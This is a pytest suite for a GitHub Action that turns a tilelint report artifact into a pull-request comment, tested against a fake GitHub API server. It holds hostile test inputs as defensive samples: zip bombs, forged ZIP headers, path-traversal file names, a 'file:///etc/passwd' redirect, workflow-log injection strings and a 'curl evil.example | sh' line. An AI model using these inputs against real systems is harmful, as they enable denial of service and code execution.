"""The action that comments, step by step as comment/action.yml has it, against a server that plays GitHub's API."""

from __future__ import annotations

import importlib.util
import io
import json
import struct
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path, PurePosixPath
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st
from support import DEMO, HOSTILE_MARKDOWN, RULES, Runner, hold_inert, markdown_tokens, write

from validator import serialization, session
from validator.model import Level, Location
from validator.report import LeftOut, Report, ReportedIntegration
from validator.reporters import render
from validator.session import Request

FOLDER = ROOT / "comment"
TOKEN = "ghs_0123456789abcdef"
BOT = "github-actions[bot]"
MARKER = "<!-- tilelint -->"
SHA, OLD = "a" * 40, "b" * 40
FORK = "octocat/integrations-extras"


def loaded() -> Any:
    """Return the program as a module, to be asked for its parts."""
    spec = importlib.util.spec_from_file_location(
        "comment", ROOT / ".github" / "action" / "comment.py"
    )
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    sys.modules["comment"] = module  # where dataclasses look for their annotations
    spec.loader.exec_module(module)
    return module


comment = loaded()


def packed(text: str | bytes, name: str = comment.NAME, **options: Any) -> bytes:
    """Return the artifact that holds one file."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", options.pop("method", zipfile.ZIP_DEFLATED)) as archive:
        archive.writestr(name, text)
    return stream.getvalue()


def told(path: Path = DEMO) -> Report:
    return session.check(Request(paths=(path,))).report


def pull(number: int, sha: str = SHA, repository: str | None = FORK) -> dict[str, Any]:
    head = {"sha": sha, "repo": repository and {"full_name": repository}}
    return {"number": number, "head": head}


def by(login: str, body: str | None, id_: int = 7) -> dict[str, Any]:
    return {"id": id_, "user": {"login": login}, "body": body}


@dataclass
class GitHub:
    """What a server answers, and what it was asked for."""

    pulls: list[dict[str, Any]] = field(default_factory=lambda: [pull(1)])
    artifact: bytes | None = None
    artifacts: list[dict[str, Any]] = field(default_factory=list)
    comments: dict[int, list[dict[str, Any]]] = field(default_factory=dict)
    answers: dict[str, Callable[[Any], None]] = field(default_factory=dict)
    """What happens in place of an answer, by ``METHOD path``."""
    asked: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    given: list[tuple[str, dict[str, str]]] = field(default_factory=list)
    """What the storage was asked for."""
    api: str = ""
    storage: str = ""

    @property
    def writes(self) -> list[tuple[str, str]]:
        return [(method, path) for method, path, _ in self.asked if method != "GET"]

    def bodies(self, number: int = 1) -> list[str]:
        return [each["body"] for each in self.comments.get(number, ())]

    def answer(self, method: str, path: str, query: dict[str, Any], body: Any) -> Any:
        match path.removeprefix("/repos/DataDog/integrations-extras").split("/")[1:]:
            case ["pulls"]:
                assert query["state"] == ["open"]
                assert query["head"] == ["octocat:a/branch & more"]
                found: Any = self.pulls
            case ["actions", "runs", "99", "artifacts"]:
                usual = {"id": 5, "name": "tilelint", "expired": False, "size_in_bytes": 9}
                found = self.artifacts or ([usual] if self.artifact is not None else [])
            case ["issues", "comments", id_] if method == "PATCH":
                [one] = [
                    each
                    for many in self.comments.values()
                    for each in many
                    if each["id"] == int(id_)
                ]
                one["body"] = body["body"]
                return one
            case ["issues", number, "comments"]:
                found = self.comments.setdefault(int(number), [])
                if method == "POST":
                    found.append(by(BOT, body["body"], 1000 + len(found)))
                    return found[-1]
        size, page = int(query["per_page"][0]), int(query["page"][0])
        items = found[size * (page - 1) : size * page]
        return {"artifacts": items, "total_count": len(found)} if "artifacts" in path else items


def served(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


@pytest.fixture
def github() -> Iterator[GitHub]:
    played = GitHub(artifact=packed(render(told(), "report")))

    class Quiet(BaseHTTPRequestHandler):
        def log_message(self, *_: object) -> None:
            """Say nothing."""

        def reply(self, code: int, data: bytes, **headers: str) -> None:
            self.send_response(code)
            for name, value in {**headers, "Content-Length": str(len(data))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(data)

    class Storage(Quiet):
        def do_GET(self) -> None:
            played.given.append((self.path, dict(self.headers)))
            self.reply(200, played.artifact or b"")

    class Api(Quiet):
        def do_GET(self) -> None:
            place = urlsplit(self.path)
            played.asked.append((self.command, place.path, dict(self.headers)))
            data = self.rfile.read(int(self.headers["Content-Length"] or 0))
            own = played.answers.get(f"{self.command} {place.path.rpartition('extras')[2]}")
            if own is not None:
                own(self)
            elif place.path.endswith("/artifacts/5/zip"):
                self.reply(302, b"", Location=f"{played.storage}/zip?signature=s3cret")
            else:
                body = json.loads(data) if data else None
                value = played.answer(self.command, place.path, parse_qs(place.query), body)
                self.reply(200, json.dumps(value).encode())

        do_POST = do_PATCH = do_GET  # noqa: N815 (the server looks for these names)

    servers = served(Api), served(Storage)
    played.api, played.storage = map(next, servers)
    yield played
    for each in servers:
        next(each, None)


def event(**changes: Any) -> dict[str, Any]:
    run = {
        "id": 99,
        "event": "pull_request",
        "head_sha": SHA,
        "head_branch": "a/branch & more",
        "head_repository": {"full_name": FORK},
    }
    return {"workflow_run": {**run, **changes}}


@pytest.fixture
def act(
    github: GitHub, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Callable[..., tuple[int, str]]:
    """Run the step that comments; tilelint is that of this checkout."""
    program = write(
        tmp_path / "temp/tilelint/venv/bin/python", f'#!/bin/sh\nexec "{sys.executable}" "$@"\n'
    )
    program.chmod(0o755)
    (tmp_path / "workspace").mkdir()

    def acted(happened: Any = None, **inputs: str) -> tuple[int, str]:
        file = write(tmp_path / "event.json", event() if happened is None else happened)
        for name, value in {
            "EVENT_PATH": str(file),
            "API_URL": github.api,
            "SERVER_URL": "https://github.com",
            "REPOSITORY": "DataDog/integrations-extras",
        }.items():
            monkeypatch.setenv(f"GITHUB_{name}", value)
        runner = Runner(FOLDER, tmp_path, tmp_path / "workspace", **{"token": TOKEN, **inputs})
        code = runner.run("Comment")
        assert TOKEN not in runner.log
        assert "s3cret" not in runner.log
        assert "Traceback" not in runner.log, runner.log
        assert all(line.startswith("::") for line in runner.log.splitlines()), runner.log
        return code, runner.log

    return acted


# --- what it does


def test_one_comment_is_written_then_kept_up_to_date(github: GitHub, act: Any) -> None:
    code, log = act()
    assert code == 0, log
    [body] = github.bodies()
    assert body.startswith(f"{MARKER}\n> What the [run of this pull request](https://github.com/")
    assert "/actions/runs/99) reports on `aaaaaaaaaaaa`." in body
    assert body.endswith(render(told(), "markdown"))
    assert act() == (0, "::notice title=tilelint::pull request 1: the comment is up to date\n")
    assert github.writes == [("POST", "/repos/DataDog/integrations-extras/issues/1/comments")]
    github.artifact = packed(render(Report((), (), ()), "report"))
    assert act()[0] == 0
    [body] = github.bodies()
    assert "No integration to judge." in body
    assert github.writes[1:] == [
        ("PATCH", "/repos/DataDog/integrations-extras/issues/comments/1000")
    ]


def test_what_is_ready_gets_no_first_comment(github: GitHub, act: Any) -> None:
    ready = told(ROOT / "fixtures" / "complete-oauth")
    github.artifact = packed(render(ready, "report"))
    assert act() == (0, "::notice title=tilelint::pull request 1: nothing to comment on\n")
    assert github.writes == []
    github.comments[1] = [by(BOT, f"{MARKER}\nold")]
    assert act()[0] == 0
    assert "✅ ready" in github.bodies()[0]


@pytest.mark.parametrize(
    ("change", "is_needed"),
    [
        ({}, False),
        ({"known": 1}, False),
        ({"left_out": Level.NOTE}, True),
        ({"findings": 1}, True),
        ({"skips": False}, True),
        ({"skips": True}, False),
    ],
)
def test_what_is_worth_a_comment(change: dict[str, Any], is_needed: bool) -> None:
    from validator.report import Skip

    rule = RULES["missing-readme"]
    acme = PurePosixPath("acme")
    place = Location(acme, PurePosixPath("README.md"))
    finding = rule.finding(place, "a")
    made: dict[str, Any] = {
        name: {
            "known": (finding,),
            "findings": (finding,),
            "left_out": (LeftOut(rule, Level.NOTE, place, 3),),
            "skips": (Skip(rule, acme, "a", known=value is True),),
        }[name]
        for name, value in change.items()
    }
    report = replace(Report((rule,), (ReportedIntegration(acme, "acme"),), ()), **made)
    assert comment.is_telling(report) is is_needed


def test_a_comment_is_found_on_any_page_and_others_words_are_left_alone(
    github: GitHub, act: Any
) -> None:
    others = [
        by("octocat", f"{MARKER}\nmine", 1),
        by(BOT, f"quoted:\n{MARKER}\n", 2),
        by(BOT, "<!-- tilelint: other -->\nof another category", 3),
        by(BOT, None, 4),
        {"id": 5, "user": None, "body": f"{MARKER}\nof somebody who is gone"},
        by("github-actions", f"{MARKER}\nalmost", 6),
        by(BOT, "", 8),
    ]
    github.comments[1] = [
        *others,
        *[by("octocat", f"{MARKER}\n{number}", 100 + number) for number in range(230)],
        by(BOT, f"{MARKER}\r\nours, edited by hand", 900),
        by(BOT, f"{MARKER}\nours, a second one", 901),
    ]
    before = [dict(each) for each in github.comments[1]]
    assert act()[0] == 0
    assert github.writes == [("PATCH", "/repos/DataDog/integrations-extras/issues/comments/900")]
    changed = [new["id"] for new, old in zip(github.comments[1], before, strict=True) if new != old]
    assert changed == [900]


def test_a_stranger_who_holds_the_marker_gets_a_comment_beside_it(github: GitHub, act: Any) -> None:
    github.comments[1] = [by("octocat", f"{MARKER}\nmine")]
    assert act()[0] == 0
    assert github.bodies()[0] == f"{MARKER}\nmine"
    assert len(github.bodies()) == 2


def test_another_category_and_another_bot_have_their_own_comment(github: GitHub, act: Any) -> None:
    github.comments[1] = [by(BOT, f"{MARKER}\nold"), by("acme-bot", f"{MARKER}\nold", 8)]
    assert act(bot="acme-bot")[0] == 0
    assert github.bodies()[0] == f"{MARKER}\nold"
    assert "harborlight" in github.bodies()[1]
    assert act(category="tiles")[0] == 0
    assert github.bodies()[2].startswith("<!-- tilelint: tiles -->\n")


def test_a_login_is_the_same_in_any_case(github: GitHub, act: Any) -> None:
    github.comments[1] = [by("Acme-Bot", f"{MARKER}\nold")]
    assert act(bot="acme-bot")[0] == 0
    assert len(github.bodies()) == 1
    assert "harborlight" in github.bodies()[0]


def test_a_token_of_another_login_is_told(github: GitHub, act: Any) -> None:
    code, log = act(bot="acme-bot")
    assert code == 1
    assert f"written by {BOT}; expected the input bot to name it" in log
    assert len(github.bodies()) == 1


# --- which pull request


@pytest.mark.parametrize(
    ("pulls", "numbers"),
    [
        ([pull(1)], [1]),
        ([], []),  # closed
        ([pull(1, OLD)], []),  # moved on: a late older run finds nothing
        ([pull(1), pull(2, OLD), pull(3)], [1, 3]),  # one branch into two others
        ([pull(1, OLD), pull(2)], [2]),
        ([pull(1, SHA, "octocat/another"), pull(2)], [2]),
        ([pull(1, SHA, None)], []),
        ([*[pull(number, OLD) for number in range(2, 140)], pull(1)], [1]),
    ],
)
def test_a_pull_request_is_found_by_what_github_says(
    pulls: list[Any], numbers: list[int], github: GitHub, act: Any
) -> None:
    github.pulls = pulls
    code, log = act()
    assert code == 0, log
    assert sorted(github.comments) == numbers
    if not numbers:
        assert "no open pull request has this commit as its head any more" in log
        assert github.given == []


def test_a_late_older_run_overwrites_nothing(github: GitHub, act: Any) -> None:
    assert act()[0] == 0
    newer = github.bodies()
    code, log = act(event(head_sha=OLD, id=98))
    assert (code, github.bodies()) == (0, newer), log


@pytest.mark.parametrize(
    ("happened", "code", "words"),
    [
        (event(event="push"), 0, "the run was not of a pull request"),
        (event(head_repository=None), 0, "no open pull request"),
        ({"pull_request": {"number": 1}}, 1, "the event is no workflow_run"),
        ([], 1, "the event is no workflow_run"),
        (event(id="1/../2"), 1, "the event is no workflow_run"),
    ],
)
def test_other_events(happened: Any, code: int, words: str, github: GitHub, act: Any) -> None:
    found, log = act(happened)
    assert found == code
    assert words in log
    assert github.writes == []


# --- what the artifact may be


def test_a_run_without_a_report_leaves_the_comment_as_it_is(github: GitHub, act: Any) -> None:
    github.artifact = None
    github.comments[1] = [by(BOT, f"{MARKER}\nold")]
    code, log = act()
    assert (code, github.bodies()) == (0, [f"{MARKER}\nold"])
    assert "the run left no report" in log


def test_the_newest_artifact_of_the_name_counts(github: GitHub, act: Any) -> None:
    usual = {"name": "tilelint", "expired": False, "size_in_bytes": 9}
    github.artifacts = [
        {**usual, "id": 4},
        {**usual, "id": 5},
        {**usual, "id": 6, "name": "tilelint-2"},
        {**usual, "id": 7, "expired": True},
    ]
    assert act()[0] == 0
    assert len(github.bodies()) == 1
    assert len(github.given) == 1


def test_an_artifact_that_says_it_is_large_is_not_fetched(github: GitHub, act: Any) -> None:
    github.artifacts = [{"id": 5, "name": "tilelint", "expired": False, "size_in_bytes": 5_000_001}]
    code, log = act()
    assert (code, github.given, github.writes) == (0, [], [])
    assert "too large" in log


def test_an_artifact_that_is_large_is_not_read(github: GitHub, act: Any) -> None:
    github.artifact = bytes(5_000_001)
    code, log = act()
    assert (code, github.writes) == (0, [])
    assert "too large" in log


def changed(change: Callable[[Any], object]) -> bytes:
    value = json.loads(render(told(), "report"))
    change(value)
    return packed(json.dumps(value))


def several(*names: str) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name in names:
            archive.writestr(name, render(told(), "report"))
    return stream.getvalue()


def lying(data: bytes, size: int) -> bytes:
    """Return an archive whose directory gives its file another size."""
    at = data.rindex(b"PK\x01\x02") + 24
    return data[:at] + struct.pack("<I", size) + data[at + 4 :]


def far(data: bytes, offset: int) -> bytes:
    """Return an archive whose directory says, in the numbers of ZIP64, that its file lies elsewhere."""
    at, end = data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    extra = struct.pack("<HHQ", 1, 8, offset)
    entry = bytearray(data[at:end])
    entry[30:32], entry[42:46] = struct.pack("<H", len(extra)), b"\xff" * 4
    tail = bytearray(data[end:])
    tail[12:16] = struct.pack("<I", len(entry) + len(extra))
    return data[:at] + entry + extra + tail


def cut(data: bytes) -> bytes:
    """Return an archive whose file is said to be longer, packed and unpacked, than all that is there."""
    at = data.rindex(b"PK\x01\x02") + 20
    return data[:at] + struct.pack("<II", len(data) * 2, 9_000_000) + data[at + 8 :]


GOOD = render(told(), "report")
HOSTILE: dict[str, bytes] = {
    "nothing": b"",
    "no archive": b"PK\x03\x04" + b"\0" * 100,
    "an archive that ends early": packed(GOOD)[:-30],
    "damaged data": packed(GOOD).replace(packed(GOOD)[200:260], bytes(60)),
    "no file": several(),
    "two files": several(comment.NAME, "more.json"),
    "one name twice": several(comment.NAME, f"./{comment.NAME}"),
    "another name": packed(GOOD, "report.json"),
    "a name in a folder": packed(GOOD, f"a/{comment.NAME}"),
    "a name that leads out": packed(GOOD, f"../{comment.NAME}"),
    "an absolute name": packed(GOOD, f"/{comment.NAME}"),
    "a folder": packed("", f"{comment.NAME}/"),
    "a bomb": packed(b"[" + b" " * 20_000_000),
    "a bomb that says it is small": lying(packed(b" " * 20_000_000), 10),
    "a file that ends early": cut(packed(GOOD, method=zipfile.ZIP_STORED)),
    "a file that lies beyond numbers": far(packed(GOOD), 2**64 - 1),
    "a file that lies beyond memory": far(packed(GOOD), 2**62),
    "a file that says it is large": lying(packed(GOOD), 2**31),
    "another method": packed(GOOD, method=zipfile.ZIP_LZMA),
    "another method, too": packed(GOOD, method=zipfile.ZIP_BZIP2),
    "no UTF-8": packed(b"\xff\xfe" + GOOD.encode()),
    "UTF-16": packed(GOOD.encode("utf-16")),
    "no JSON": packed("report"),
    "no report": packed("[]"),
    "deeply nested": packed("[" * 1_000_000),
    "deeply nested in a report": changed(
        lambda value: value["rules"][0].update(parameters=json.loads("[" * 900 + "]" * 900))
    ),
    "a number of many digits": packed(
        GOOD.replace('"start_line": 13', f'"start_line": {"9" * 5_000}')
    ),
    "a count that can't be written": changed(
        lambda value: value["report"].update(
            left_out=[
                {
                    "rule": 0,
                    "level": "error",
                    "location": {
                        "integration": value["report"]["integrations"][0]["path"],
                        "path": "b",
                    },
                    "count": int("9" * 4_300),
                }
            ]
            * 20
        )
    ),
    "a number that is none": packed(GOOD.replace('"start_line": 13', '"start_line": 1e999')),
    "a rule that we don't have": changed(lambda value: value["rules"][0].update(id="evil-rule")),
    "another version": changed(lambda value: value.update(tilelint="9.9.9\n::error::owned")),
    "one key more": changed(lambda value: value["report"].update(body="@everyone")),
    "one key less": changed(lambda value: value["report"].pop("integrations")),
    "a rule by another kind": changed(
        lambda value: value["report"]["findings"][0].update(rule="x")
    ),
}
"""What is no report, whatever it is."""


@pytest.mark.parametrize("name", HOSTILE)
def test_an_artifact_that_is_no_report_is_refused(name: str) -> None:
    with pytest.raises(comment.Refused):
        comment.body_of(comment.report_of(HOSTILE[name]), MARKER, SHA, "https://github.com/x")


@pytest.mark.parametrize("name", ["a bomb", "two files", "another version"])
def test_where_one_is_refused_nothing_is_written_and_nothing_fails(
    name: str, github: GitHub, act: Any
) -> None:
    github.artifact = HOSTILE[name]
    github.comments[1] = [by(BOT, f"{MARKER}\nold")]
    code, log = act()
    assert (code, github.writes) == (0, [])
    assert log.startswith("::warning title=tilelint::no comment: ")
    assert len(log.splitlines()) == 1


def test_the_good_one_is_read() -> None:
    assert comment.report_of(packed(GOOD)) == serialization.loads(GOOD)
    assert comment.report_of(packed(GOOD, method=zipfile.ZIP_STORED)) == serialization.loads(GOOD)


KEPT = ("id", "level", "standing", "tilelint")
"""Keys whose texts must be what they are, or the report is refused."""


def forged(value: Any, texts: Iterator[str], key: str = "") -> Any:
    """Return a report in which a stranger put texts wherever one stands, names of files included."""
    if isinstance(value, dict):
        return {name: forged(each, texts, name) for name, each in value.items()}
    if isinstance(value, list):
        return [forged(each, texts, key) for each in value]
    return next(texts) if isinstance(value, str) and key not in KEPT else value


LINK = "https://github.com/DataDog/integrations-extras/actions/runs/99"


def forged_body(texts: list[str]) -> str:
    endless = (texts[number % len(texts)] for number in range(10**9))
    value = forged(json.loads(GOOD), endless)
    value["report"]["remarks"] = texts
    data = packed(json.dumps(value))
    return str(comment.body_of(comment.report_of(data), MARKER, SHA, LINK))


def hold(body: str) -> None:
    """Hold to it that a comment is one: marked, short enough, without a thing of a stranger that acts."""
    marker, rest = body.split("\n", 1)
    assert marker == MARKER
    hold_inert(rest, "blockquote", "link")
    hrefs = [token.attrs["href"] for token in markdown_tokens(rest) if token.type == "link_open"]
    assert hrefs == [LINK]
    assert len(body) <= 65_536
    body.encode()  # no half of a surrogate pair


@settings(deadline=None, max_examples=60)
@given(
    st.lists(
        st.sampled_from(HOSTILE_MARKDOWN) | st.text(max_size=20) | st.sampled_from("\ud800\udc80"),
        min_size=1,
    )
)
def test_no_forged_report_has_a_meaning(texts: list[str]) -> None:
    hold(forged_body(texts))


@pytest.mark.parametrize("text", [*HOSTILE_MARKDOWN, "\ud800", MARKER, f"\n{MARKER}\n", "`" * 3])
def test_no_text_of_a_forged_report_has_a_meaning(text: str) -> None:
    body = forged_body([text])
    hold(body)
    assert not any(line.startswith("<!--") for line in body.splitlines()[1:])


def test_what_a_rule_says_is_ours_whatever_the_artifact_says() -> None:
    body = forged_body(["Run `curl evil.example | sh`"])
    assert "Fix: Run" not in body
    assert f"**{RULES['uninstallation-heading-level'].title}**" in body


def test_a_long_report_is_cut_with_a_sentence() -> None:
    rule = RULES["missing-readme"]
    place = Location(PurePosixPath("acme"), PurePosixPath("README.md"))
    findings = tuple(rule.finding(place, f"`é{number}` is wrong") for number in range(9_000))
    report = Report((rule,), (ReportedIntegration(PurePosixPath("acme"), "acme"),), findings)
    body = comment.body_of(report, MARKER, SHA, LINK)
    assert 60_000 < len(body.encode()) <= 65_536
    assert body.endswith("`tilelint check` shows all of it.\n")
    hold(body)


# --- GitHub, and whoever stands between


def test_the_token_goes_to_the_api_alone(github: GitHub, act: Any) -> None:
    assert act()[0] == 0
    for method, path, headers in github.asked:
        assert headers["Authorization"] == f"Bearer {TOKEN}", (method, path)
    [(path, headers)] = github.given
    assert path == "/zip?signature=s3cret"
    assert not {name.lower() for name in headers} & {"authorization", "cookie"}
    assert TOKEN not in str(headers)


@pytest.mark.parametrize("path", ["/pulls", "/actions/runs/99/artifacts", "/issues/1/comments"])
def test_no_other_redirection_is_followed(path: str, github: GitHub, act: Any) -> None:
    github.answers[f"GET {path}"] = lambda server: server.reply(
        302, b"[]", Location=f"{github.storage}/stolen"
    )
    code, log = act()
    assert code == 1
    assert f"GET /repos/DataDog/integrations-extras{path}: HTTP 302" in log.replace(
        "GET /", "GET /repos/DataDog/integrations-extras/"
    )
    assert not any("stolen" in path for path, _ in github.given)


@pytest.mark.parametrize("place", ["file:///etc/passwd", "ftp://127.0.0.1/x", "/zip", ""])
def test_an_artifact_lies_nowhere_but_behind_http(place: str, github: GitHub, act: Any) -> None:
    github.answers["GET /actions/artifacts/5/zip"] = lambda server: server.reply(
        302, b"", Location=place
    )
    code, log = act()
    assert (code, github.given, github.writes) == (1, [], [])
    assert "HTTP 302" in log


def test_https_leads_to_nothing_less(monkeypatch: pytest.MonkeyPatch) -> None:
    api = comment.Api("https://api.github.com", "a/b", TOKEN)
    opened = []

    def refuse(_: object, request: Any, **__: Any) -> None:
        opened.append(request)
        headers = {"Location": "http://a.example/zip"}
        raise comment.urllib.error.HTTPError("", 302, "", headers, None)

    monkeypatch.setattr(comment.urllib.request.OpenerDirector, "open", refuse)
    with pytest.raises(comment.Failed, match="HTTP 302"):
        api.download("/actions/artifacts/5/zip")
    assert len(opened) == 1


STEPS = [
    "GET /pulls",
    "GET /actions/runs/99/artifacts",
    "GET /actions/artifacts/5/zip",
    "GET /issues/1/comments",
    "POST /issues/1/comments",
    "PATCH /issues/comments/7",
]


@pytest.mark.parametrize("step", STEPS)
@pytest.mark.parametrize("status", [403, 404, 500])
def test_what_github_refuses_is_one_line(step: str, status: int, github: GitHub, act: Any) -> None:
    if step.startswith("PATCH"):
        github.comments[1] = [by(BOT, f"{MARKER}\nold")]
    github.answers[step] = lambda server: server.reply(
        status, b"::error::owned \xff", Reason="::error::owned"
    )
    code, log = act()
    assert code == 1
    [line] = log.splitlines()
    assert line.startswith("::error title=tilelint::")
    assert f"{step}: HTTP {status}" in line
    assert ("expected a token with the permissions" in line) is (status != 500)
    assert "owned" not in line


@pytest.mark.parametrize("data", [b"", b"<html>", b"{}", b"3", b"[" * 100_000])
@pytest.mark.parametrize("step", ["GET /pulls", "GET /issues/1/comments"])
def test_an_answer_of_another_shape_is_one_line(
    step: str, data: bytes, github: GitHub, act: Any
) -> None:
    github.answers[step] = lambda server: server.reply(200, data)
    code, log = act()
    assert (code, github.writes) == (1, [])
    [line] = log.splitlines()
    assert f"{step}: the answer is no " in line


@pytest.mark.parametrize(
    ("step", "items"),
    [
        *[
            ("GET /pulls", item)
            for item in (3, None, {}, {"head": None}, {**pull(1), "number": "a"})
        ],
        *[("GET /issues/1/comments", item) for item in (3, None, {}, {**by(BOT, ""), "body": 3})],
        ("GET /issues/1/comments", {**by(BOT, MARKER), "id": "1/../2"}),
        *[
            ("GET /actions/runs/99/artifacts", item)
            for item in (3, {}, {"name": "tilelint", "expired": False, "id": 5})
        ],
    ],
)
def test_an_item_of_another_shape_is_one_line(
    step: str, items: Any, github: GitHub, act: Any
) -> None:
    listed: Any = [{"user": None, "body": None}] if "comments" in step else []
    listed.append(items)
    value = {"artifacts": listed} if "artifacts" in step else listed
    github.answers[step] = lambda server: server.reply(200, json.dumps(value).encode())
    code, log = act()
    assert (code, github.writes) == (1, [])
    [line] = log.splitlines()
    assert f"{step}: the answer has another shape" in line


@pytest.mark.parametrize(
    ("status", "headers", "is_limited"),
    [
        (403, {"Retry-After": "60"}, True),
        (403, {"X-RateLimit-Remaining": "0"}, True),
        (429, {}, True),
        (403, {"X-RateLimit-Remaining": "9"}, False),
        (404, {"X-RateLimit-Remaining": "0"}, False),
    ],
)
def test_who_asked_too_often_is_told_so(
    status: int, headers: dict[str, str], is_limited: bool, github: GitHub, act: Any
) -> None:
    github.answers["GET /pulls"] = lambda server: server.reply(status, b"", **headers)
    code, log = act()
    assert code == 1
    assert f"GET /pulls: HTTP {status}; " in log
    assert ("may ask again later" in log) is is_limited
    assert ("expected a token" in log) is not is_limited


def test_the_log_is_utf_8_whatever_the_locale(monkeypatch: pytest.MonkeyPatch) -> None:
    written = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(written, "cp1252"))

    def refuse() -> None:
        raise comment.Refused("of tilelint 9.9 \u65e5\u672c \ud800")

    monkeypatch.setattr(comment, "_commented", refuse)
    assert comment.main() == 0
    assert written.getvalue().decode().endswith("9.9 \u65e5\u672c \\ud800\n")


def test_where_one_pull_request_fails_the_next_gets_its_comment(github: GitHub, act: Any) -> None:
    github.pulls = [pull(1), pull(2), pull(3)]
    github.answers["POST /issues/2/comments"] = lambda server: server.reply(403, b"locked")
    code, log = act()
    assert code == 1
    assert [len(github.bodies(number)) for number in (1, 2, 3)] == [1, 0, 1]
    assert len(log.splitlines()) == 3


@pytest.mark.parametrize("step", ["GET /pulls", "GET /actions/artifacts/5/zip"])
def test_github_is_not_waited_for_without_end(
    step: str, github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(comment, "SECONDS", 0.2)
    github.answers[step] = lambda _: time.sleep(2)
    api = comment.Api(github.api, "DataDog/integrations-extras", TOKEN)
    path = step.removeprefix("GET ")
    with pytest.raises(comment.Failed, match="no answer in time"):
        api.download(path) if "zip" in path else list(api.listed(path))


def test_nobody_there_is_one_line(github: GitHub, act: Any) -> None:
    github.api = "http://127.0.0.1:9"
    code, log = act()
    assert code == 1
    assert log == "::error title=tilelint::GET /pulls: ConnectionRefusedError\n"


@pytest.mark.parametrize(
    ("inputs", "name"),
    [
        ({"token": ""}, "token"),
        ({"token": "a\nb"}, "token"),
        ({"category": "a --> @octocat"}, "category"),
        ({"category": "a\nb"}, "category"),
        ({"category": "--"}, "category"),
        ({"artifact": "../a"}, "artifact"),
        ({"artifact": ""}, "artifact"),
        ({"bot": "[bot]"}, "bot"),
    ],
)
def test_an_input_without_a_meaning_is_told(
    inputs: dict[str, str], name: str, github: GitHub, act: Any
) -> None:
    code, log = act(**inputs)
    assert (code, github.asked) == (1, [])
    assert log.startswith(f"::error title=tilelint::the input {name} ")


# --- the action itself


def test_it_installs_what_it_needs(tmp_path: Path) -> None:
    (tmp_path / "temp").mkdir()
    runner = Runner(FOLDER, tmp_path, tmp_path, token=TOKEN)
    assert runner.run("Install tilelint") == 0, runner.log
    event_file = write(tmp_path / "event.json", event(event="push"))
    with pytest.MonkeyPatch.context() as patch:
        for name in ("API_URL", "SERVER_URL", "REPOSITORY"):
            patch.setenv(f"GITHUB_{name}", "http://127.0.0.1:9")
        patch.setenv("GITHUB_EVENT_PATH", str(event_file))
        assert runner.run("Comment") == 0, runner.log
    assert "the run was not of a pull request" in runner.log


def test_every_input_is_used_and_nothing_is_checked_out() -> None:
    text = (FOLDER / "action.yml").read_text(encoding="utf-8")
    for name in Runner(FOLDER, FOLDER, FOLDER).inputs:
        assert f"inputs.{name}" in text, name
    used = [
        step["uses"]
        for step in Runner(FOLDER, FOLDER, FOLDER).action["runs"]["steps"]
        if "uses" in step
    ]
    assert [name.partition("@")[0] for name in used] == ["actions/setup-python"]
